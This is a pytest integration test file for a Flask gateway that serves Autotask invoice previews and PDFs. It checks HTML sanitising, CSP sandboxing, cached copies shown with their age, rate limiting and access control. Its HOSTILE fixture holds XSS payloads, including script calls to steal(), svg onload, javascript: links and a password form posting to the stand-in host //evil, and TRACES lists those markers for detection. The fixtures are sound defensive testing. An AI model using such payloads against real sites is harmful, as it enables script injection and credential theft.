"""Autotask's printed forms as pages and files: cleaned, shut in, kept, and honest about their age."""

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from markupsafe import escape
from werkzeug.test import TestResponse

from core.domain.errors import UnavailableError
from core.domain.papers import Form
from core.runtime.rpc_client import RemoteCallError
from core.store.documents import ConnectionDocument, InvoiceDocument, PaperDocument
from core.store.views import record as records
from gateway.messages import frame as messages
from tests.factories.gateway_world import StubRpc, keep_paper, keeps_page
from tests.integration.gateway.conftest import NOW, Visitor

LIST = "/c/kauri/sync/invoices"
API = "/connections/kauri/invoices"
AWAY = {"ok": False, "problem": {"code": "unavailable", "message": "Autotask is not answering."}}
PDF = b"%PDF-1.4 an invoice"
HOSTILE = (
    "<style>@import url(//evil);h1{color:red;position:fixed}</style>"
    "<h1 onclick='x()' style='position:fixed;inset:0'>Invoice</h1><script>steal()</script>"
    "<img src=//evil/pixel.gif><img src='data:image/svg+xml,<svg onload=steal()>'>"
    "<a href='javascript:steal()'>link</a><form action='//evil'><input name=password></form>"
    "<iframe src='//evil'></iframe><svg onload=steal()><animate /></svg><table><tr><td>1</td></tr>"
    "</table><meta http-equiv=refresh content='0;url=//evil'><base href='//evil'>"
)
TRACES = (
    *("steal", "onclick", "<iframe", "<form", "<input", "<svg", "<img", "javascript:", "evil"),
    *("@import", "position", "inset", "refresh", "<base", "<script", "<a "),
)
Api = Callable[..., TestResponse]


@pytest.fixture
def viewer(signed_in: Callable[[str], Visitor]) -> Visitor:
    PaperDocument._get_collection().delete_many({})
    return signed_in("viewer")


@pytest.fixture(autouse=True)
def _with_all_of_their_limit(app: Flask) -> None:
    app.extensions["paper_limit"].storage.reset()


def _assert_shut_in(response: TestResponse) -> None:
    policy = dict(part.partition(" ")[::2] for part in
                  response.headers["Content-Security-Policy"].split("; "))  # fmt: skip
    assert policy["sandbox"] == ""
    assert policy["default-src"] == "'none'"
    assert policy["img-src"] == "data:"
    assert policy["form-action"] == policy["base-uri"] == "'none'"
    assert policy["frame-ancestors"] == "'self'"
    assert not {"script-src", "connect-src", "font-src"} & policy.keys()
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "no-referrer"
    for trace in TRACES:
        assert trace not in response.text, trace


def test_a_hostile_page_is_cleaned_and_shut_in(viewer: Visitor, rpc: StubRpc) -> None:
    rpc.answers["preview_html"] = keeps_page(HOSTILE)
    response = viewer.get(f"{LIST}/48000/source")
    _assert_shut_in(response)
    assert "<td>1</td>" in response.text
    assert "h1{color:red}" in response.text


def test_programs_get_it_just_as_harmless(viewer: Visitor, api: Api) -> None:
    assert viewer
    keep_paper(48_000, Form.HTML, HOSTILE.encode())
    response = api(f"{API}/48000/preview.html")
    _assert_shut_in(response)
    assert response.content_type == "text/html; charset=utf-8"
    assert "<td>1</td>" in response.text


def test_the_panel_frames_it_without_any_right(viewer: Visitor) -> None:
    html = viewer.text(f"{LIST}/48000", headers={"HX-Request": "true"})
    (frame,) = [tag for tag in html.split("<") if tag.startswith("iframe")]
    assert 'sandbox=""' in frame
    assert f'src="{LIST}/48000/source?framed=1"' in frame


def test_the_second_look_asks_nobody(viewer: Visitor, rpc: StubRpc) -> None:
    rpc.answers["preview_html"] = keeps_page("<p>Invoice 48000</p>")
    for _ in range(2):
        assert "<p>Invoice 48000</p>" in viewer.text(f"{LIST}/48000/source")
    assert [method for _, method, _ in rpc.calls] == ["preview_html"]


def test_a_changed_invoice_is_fetched_anew(viewer: Visitor, rpc: StubRpc) -> None:
    keep_paper(48_000, Form.HTML, b"<p>as it was</p>", hash="of other content")
    rpc.answers["preview_html"] = keeps_page("<p>as it is</p>")
    assert "as it is" in viewer.text(f"{LIST}/48000/source")


@pytest.mark.parametrize(
    ("away", "sentence"),
    [
        (AWAY, "Autotask is not answering."),
        (UnavailableError("Autotask is not answering."), "Autotask is not answering."),
        (RemoteCallError("actor", "preview_html", "KeyError", "x"), messages.REMOTE_TROUBLE),
    ],
)
def test_what_is_kept_is_shown_with_its_age_while_autotask_is_away(
    viewer: Visitor, rpc: StubRpc, away: Any, sentence: str
) -> None:
    fetched_at = NOW - timedelta(days=2)
    keep_paper(48_000, Form.HTML, b"<p>as it was</p>", hash="of other content",
               fetched_at=fetched_at)  # fmt: skip
    rpc.answers["preview_html"] = away
    html = viewer.text(f"{LIST}/48000/source")
    assert "<p>as it was</p>" in html
    assert "This is how it looked on" in html
    assert str(escape(sentence)) in html
    assert "KeyError" not in html


def test_a_pdf_that_may_be_outdated_says_so_in_its_name(viewer: Visitor, rpc: StubRpc) -> None:
    fetched_at = datetime(2026, 11, 20, tzinfo=UTC)
    keep_paper(48_000, Form.PDF, PDF, hash="of other content", fetched_at=fetched_at)
    rpc.answers["invoice_pdf"] = AWAY
    response = viewer.get(f"{LIST}/48000/autotask.pdf")
    assert response.data == PDF
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="autotask-invoice-48000-as-of-2026-11-20.pdf"'
    )
    assert response.headers["Last-Modified"] == "Fri, 20 Nov 2026 00:00:00 GMT"


@pytest.mark.parametrize(
    ("away", "sentence"),
    [
        (AWAY, "Autotask is not answering."),
        (RemoteCallError("actor", "preview_html", "KeyError", "x"), messages.REMOTE_TROUBLE),
    ],
)
def test_with_nothing_kept_the_sentence_and_the_lines_are_shown(
    viewer: Visitor, rpc: StubRpc, away: Any, sentence: str
) -> None:
    rpc.answers["preview_html"] = away
    html = viewer.text(f"{LIST}/48000/source")
    assert str(escape(sentence)) in html
    assert "Managed Services – Onsite" in html


def test_a_page_of_elements_without_end_is_a_sentence(viewer: Visitor, api: Api) -> None:
    keep_paper(48_000, Form.HTML, b"<div>" * 100_000)
    assert "or has too many parts to be shown" in viewer.text(f"{LIST}/48000/source")
    refused = api(f"{API}/48000/preview.html")
    assert refused.status_code == 409
    assert "Save Autotask's PDF instead" in refused.get_json()["detail"]


def test_the_frame_never_stays_blank(
    viewer: Visitor, visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page that may not be framed, such as an error's or the sign-in, would show nothing in it."""
    gone = viewer.get(f"{LIST}/999999/source?framed=1")
    signed_out = visitor.get(f"{LIST}/48000/source?framed=1")

    def is_away(*_asked: object) -> None:
        raise UnavailableError("The database is not answering.")

    monkeypatch.setattr(records, "record", is_away)
    away = viewer.get(f"{LIST}/48000/source?framed=1")
    for response, status, sentence in (
        (gone, 404, "There is no record 999999"),
        (signed_out, 401, "Your session has ended."),
        (away, 503, "The database is not answering."),
    ):
        assert response.status_code == status
        assert sentence in response.text
        _assert_shut_in(response)


def test_the_sheet_of_the_page_cannot_hide_our_note(viewer: Visitor, rpc: StubRpc) -> None:
    sheet = b"<style>p{display:none !important}body{display:none}</style><p>x</p>"
    keep_paper(48_000, Form.HTML, sheet, hash="of other content")
    rpc.answers["preview_html"] = AWAY
    html = viewer.text(f"{LIST}/48000/source")
    (note,) = [tag for tag in html.split("<") if "This is how it looked on" in tag]
    assert note.startswith('p style="all:initial!important;display:block!important')
    assert '<body style="display:block!important' in html


def test_programs_are_told_of_an_outdated_page_too(viewer: Visitor, api: Api, rpc: StubRpc) -> None:
    assert viewer
    fetched_at = datetime(2026, 11, 20, tzinfo=UTC)
    keep_paper(48_000, Form.HTML, b"<p>x</p>", hash="of other content", fetched_at=fetched_at)
    rpc.answers["preview_html"] = AWAY
    told = api(f"{API}/48000/preview.html").text
    assert "This is how it looked on 2026-11-20 00:00 UTC. Autotask is not answering." in told
    assert told.endswith("<p>x</p>")


def test_a_pdf_is_saved_under_our_own_name_and_type(viewer: Visitor, api: Api) -> None:
    keep_paper(48_000, Form.PDF, PDF)
    for response in (viewer.get(f"{LIST}/48000/autotask.pdf"), api(f"{API}/48000/autotask.pdf")):
        assert response.data == PDF
        assert response.content_type == "application/pdf"
        assert response.headers["Content-Disposition"] == (
            'attachment; filename="autotask-invoice-48000.pdf"'
        )
        assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_no_pdf_and_no_autotask_is_a_sentence(viewer: Visitor, api: Api, rpc: StubRpc) -> None:
    rpc.answers["invoice_pdf"] = AWAY
    assert "Autotask is not answering." in viewer.text(f"{LIST}/48000/autotask.pdf", 503)
    assert api(f"{API}/48000/autotask.pdf").get_json()["detail"] == "Autotask is not answering."


@pytest.mark.parametrize("path", ["preview.html", "autotask.pdf"])
def test_a_form_of_another_connection_is_not_found(viewer: Visitor, api: Api, path: str) -> None:
    keep_paper(48_000, Form.PDF, PDF)
    assert api(f"/connections/other/invoices/48001/{path}").status_code == 404
    assert api(f"/connections/nobody/invoices/48000/{path}").status_code == 404
    assert viewer.get(f"/c/other/sync/invoices/48001/{path}").status_code == 404


def test_nobody_sees_them_without_signing_in(visitor: Visitor) -> None:
    for path in ("source", "autotask.pdf"):
        response = visitor.get(f"{LIST}/48000/{path}")
        assert response.status_code == 303
        assert "/sign-in" in response.headers["Location"]


@pytest.mark.parametrize(
    ("told", "option", "sentence"),
    [
        ({"state": "waiting"}, True, "is attached in Xero as soon as no invoice waits."),
        (
            {"state": "ready", "reason": "Xero is away.", "not_before": NOW},
            True,
            "is not attached in Xero yet: Xero is away. Next try at",
        ),
        (
            {"state": "attached", "there": {"at": NOW}},
            True,
            "Autotask-invoice-48000.pdf is attached in Xero since",
        ),
        (
            {"state": "refused", "reason": "<b>Ten files</b>", "refused_at": NOW},
            True,
            "was not attached in Xero",
        ),
        ({"state": "waiting"}, False, "the option attach_pdf is switched off."),
    ],
)
def test_the_panel_says_how_far_the_pdf_is_on_its_way_to_xero(
    viewer: Visitor, told: dict[str, Any], option: bool, sentence: str
) -> None:
    ConnectionDocument._get_collection().update_one(
        {"_id": "kauri"}, {"$set": {"settings.attach_pdf": option}}
    )
    InvoiceDocument._get_collection().update_one(
        {"_id": "kauri/48000"}, {"$set": {"attachment": {"wanted_at": NOW, **told}}}
    )
    html = viewer.text(f"{LIST}/48000", headers={"HX-Request": "true"})
    assert sentence in html
    assert "<b>Ten files</b>" not in html
    (link,) = [tag for tag in html.split("<") if f'href="{LIST}/48000/autotask.pdf"' in tag]
    assert " download" not in link, "a browser would not show why there is no PDF"


def test_the_panel_says_nothing_of_a_pdf_that_nobody_wants_in_xero(viewer: Visitor) -> None:
    told = {"state": "waiting", "open": True, "wanted_at": NOW}
    InvoiceDocument._get_collection().update_one(
        {"_id": "kauri/49010"}, {"$set": {"attachment": told}}
    )
    assert "data-attachment" not in viewer.text(f"{LIST}/49010", headers={"HX-Request": "true"})


def test_one_person_cannot_use_up_autotasks_calls(
    signed_in: Callable[[str], Visitor], rpc: StubRpc
) -> None:
    """What nobody keeps is asked of Autotask each time; others go on meanwhile."""
    viewer = signed_in("viewer")
    PaperDocument._get_collection().delete_many({})
    rpc.answers["invoice_pdf"] = AWAY
    for _ in range(30):
        assert viewer.get(f"{LIST}/48000/autotask.pdf").status_code == 503
    refused = viewer.get(f"{LIST}/48000/autotask.pdf")
    assert refused.status_code == 429
    assert "wait a minute" in refused.text
    assert "wait a minute" in viewer.text(f"{LIST}/48000/source")
    assert len(rpc.calls) == 30
    assert signed_in("operator").get(f"{LIST}/48000/autotask.pdf").status_code == 503
    keep_paper(48_000, Form.PDF, PDF)
    assert viewer.get(f"{LIST}/48000/autotask.pdf").status_code == 200
